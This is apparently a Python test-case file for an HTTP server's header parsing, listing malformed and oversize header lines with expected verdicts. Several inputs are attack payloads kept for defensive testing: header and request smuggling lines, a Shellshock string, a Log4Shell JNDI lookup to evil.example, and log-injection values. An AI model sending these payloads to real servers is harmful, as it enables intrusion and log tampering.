"""Syntax of header lines (RFC 9112 section 5, RFC 9110 section 5)."""

from hostile.case import BAD, OK, Case, ask, statuses

# fmt: off

GROUP = "header"

_FLAWED = {
    "bare line feed behind a field": b"X-A: b\nX-B: c",
    "bare line feed and a framing field": b"X-A: b\nContent-Length: 50",
    "bare line feed and an identity": b"X-A: b\nX-Gateway-Subject: ev1l",
    "bare carriage return in a value": b"X-A: b\rX-Gateway-Subject: ev1l",
    "bare carriage return at the end": b"X-A: b\r",
    "bare carriage return at the start": b"X-A: \rb",
    "carriage return in a name": b"X-\rA: b",
    "line feed in a name": b"X-\nA: b",
    "line feed, then carriage return": b"X-A: b\n\rX-B: c",
    "two carriage returns": b"X-A: b\r\r",
    "folded with a space": b"X-A: b\r\n c",
    "folded with a tab": b"X-A: b\r\n\tc",
    "folded and empty": b"X-A: b\r\n ",
    "folded before the value": b"X-A:\r\n b",
    "folded coding": b"Transfer-Encoding:\r\n chunked",
    "folded length": b"Content-Length:\r\n 5",
    "folded host": b"X-Host:\r\n x\r\n y",
    "folded with a line feed": b"X-A: b\n c",
    "space before the colon": b"X-A : b",
    "tab before the colon": b"X-A\t: b",
    "spaces before the colon": b"X-A  : b",
    "vertical tab before the colon": b"X-A\x0b: b",
    "no-break space before the colon": b"X-A\xa0: b",
    "space before the colon of a length": b"Content-Length : 5",
    "tab before the colon of a coding": b"Transfer-Encoding\t: chunked",
    "space in a name": b"X A: b",
    "space before a name": b" X-A: b",
    "tab before a name": b"\tX-A: b",
    "no name": b": b",
    "no name, no value": b":",
    "no colon": b"X-A",
    "no colon and a value": b"X-A b",
    "only a space": b" ",
    "NUL in a name": b"X-\x00A: b",
    "NUL in a value": b"X-A: b\x00c",
    "NUL as a value": b"X-A: \x00",
    "NUL before a name": b"\x00X-A: b",
    "NUL before a colon": b"X-A\x00: b",
    "bell in a value": b"X-A: b\x07",
    "backspace in a value": b"X-A: b\x08",
    "vertical tab in a value": b"X-A: b\x0bc",
    "form feed in a value": b"X-A: b\x0cc",
    "escape in a value": b"X-A: \x1b[2J",
    "delete in a value": b"X-A: \x7f",
    "SOH in a value": b"X-A: \x01",
    "unit separator in a value": b"X-A: \x1f",
    "escape in the user agent": b"User-Agent: \x1b]0;owned\x07",
    "non-ASCII in a name": b"X-\xc3\x84: b",
    "Latin-1 in a name": b"X-\xe4: b",
    "parenthesis in a name": b"X(A): b",
    "comma in a name": b"X,A: b",
    "slash in a name": b"X/A: b",
    "backslash in a name": b"X\\A: b",
    "at sign in a name": b"X@A: b",
    "bracket in a name": b"X[A]: b",
    "brace in a name": b"X{A}: b",
    "quote in a name": b'X"A": b',
    "equals sign in a name": b"X=A: b",
    "question mark in a name": b"X?A: b",
    "less-than in a name": b"X<A>: b",
    "semicolon in a name": b"X;A: b",
    "a request line": b"GET /admin HTTP/1.1",
    "a status line": b"HTTP/1.1 200 OK",
}
"""Each inserted as a line of its own."""

_WHOLE = {
    "line feeds at the end": b"GET /open/x HTTP/1.1\r\nHost: localhost\r\n\n",
    "line feeds everywhere": b"GET /open/x HTTP/1.1\nHost: localhost\nX-A: b\n\n",
    "carriage returns at the end": b"GET /open/x HTTP/1.1\r\nHost: localhost\r\r",
    "carriage return and something at the end": b"GET /open/x HTTP/1.1\r\nHost: localhost\r\n\rX",
    "a space in the empty line": b"GET /open/x HTTP/1.1\r\nHost: localhost\r\n \r\n",
    "a space before the first field": b"GET /open/x HTTP/1.1\r\n Host: localhost\r\n\r\n",
    "an admin request behind a space": b"GET /open/x HTTP/1.1\r\n GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n",
}

_FINE = {
    "no space before a value": (b"X-A:b", b"X-A: b"),
    "empty value": (b"X-A:", b"X-A: "),
    "spaces around a value": (b"X-A:  \t b \t ", b"X-A: b"),
    "colons in a value": (b"X-A: b: c:", b"X-A: b: c:"),
    "Latin-1 in a value": (b"X-A: caf\xe9", b"X-A: caf\xe9"),
    "UTF-8 in a value": (b"X-A: caf\xc3\xa9", b"X-A: caf\xc3\xa9"),
    "invalid UTF-8 in a value": (b"X-A: ad\xffmin\xed\xa0\x80", b"X-A: ad\xffmin\xed\xa0\x80"),
    "next line and line separator in a value": (b"X-A: a\xc2\x85b\xe2\x80\xa8c", b"X-A: a\xc2\x85b\xe2\x80\xa8c"),
    "tab in a value": (b"X-A: b\tc", b"X-A: b\tc"),
    "every character of a token": (b"!#$%&'*+-.^_`|~09aZ: b", b"!#$%&'*+-.^_`|~09aZ: b"),
    "underscore in a name": (b"X_A: b", b"X_A: b"),
    "name with a prototype": (b"__proto__: b", b"__proto__: b"),
    "shellshock": (b"X-A: () { :; }; echo", b"X-A: () { :; }; echo"),
    "log injection by a format": (b"User-Agent: ${jndi:ldap://evil.example/a} %s%n {0}", b"User-Agent: ${jndi:ldap://evil.example/a} %s%n {0}"),
    "log injection by quotes": (b'User-Agent: ","status":200,"x":"', b'User-Agent: ","status":200,"x":"'),
    "invalid UTF-8 in the user agent": (b"User-Agent: \xff\xfe\xe2\x80\xa8\xc2\x85", b"User-Agent: \xff\xfe\xe2\x80\xa8\xc2\x85"),
}

_MANY = b"\r\n".join(b"X-%d: a" % number for number in range(100))

CASES = [
    *(Case(group=GROUP, name=name, data=ask(b"/open/x", line), verdicts=statuses(400, 501) if b"Transfer" in line else (BAD,))
      for name, line in _FLAWED.items()),
    *(
        Case(group=GROUP, name=f"{name}, in the last line", data=ask(b"/open/x", b"X-First: 1", b"Accept: */*", line))
        for name, line in _FLAWED.items()
        if name.startswith(("folded with", "space before the colon", "NUL in", "bare", "no colon"))
    ),
    *(Case(group=GROUP, name=name, data=data) for name, data in _WHOLE.items()),
    *(
        Case(group=GROUP, name=name, data=ask(b"/open/x", line), verdicts=(OK,), ends=False, has=(sent,))
        for name, (line, sent) in _FINE.items()
    ),
    Case(group=GROUP, name="one field of 40 KiB", data=ask(b"/open/x", b"X-A: " + b"a" * 40960), verdicts=statuses(431)),
    Case(group=GROUP, name="one name of 40 KiB", data=ask(b"/open/x", b"a" * 40960 + b": a"), verdicts=statuses(431)),
    Case(group=GROUP, name="300 fields", data=ask(b"/open/x", *(b"X-%d: a" % n for n in range(300))), verdicts=statuses(431)),
    Case(group=GROUP, name="2000 empty fields", data=ask(b"/open/x", *(b"a:" for _ in range(2000))), verdicts=statuses(431)),
    Case(group=GROUP, name="33 KiB of fields", data=ask(b"/open/x", *(b"X-%02d: " % n + b"a" * 1000 for n in range(33))), verdicts=statuses(431)),
    Case(group=GROUP, name="a megabyte of fields", data=ask(b"/open/x", *(b"X-%02d: " % (n % 100) + b"a" * 1000 for n in range(1000))), verdicts=statuses(431)),
    Case(group=GROUP, name="40 KiB of a field that never ends", data=ask(b"/open/x")[:-2] + b"X-A: " + b"a" * 40960, verdicts=statuses(431)),
    Case(group=GROUP, name="100 fields", data=ask(b"/open/x", _MANY), verdicts=(OK,), ends=False, has=(b"X-99: a",)),
    Case(group=GROUP, name="the same field 100 times", data=ask(b"/open/x", *([b"X-A: b"] * 100)), verdicts=(OK,), ends=False, has=(b"X-A: b",)),
    Case(group=GROUP, name="a user agent of 8000 bytes", data=ask(b"/open/x", b"User-Agent: " + b"\xe2" * 8000), verdicts=(OK,), ends=False),
    Case(group=GROUP, name="100 cookies", data=ask(b"/open/x", *(b"Cookie: a%d=c4nary" % n for n in range(100))), verdicts=(OK,), ends=False, has=(b"Cookie: a99=c4nary",)),
]
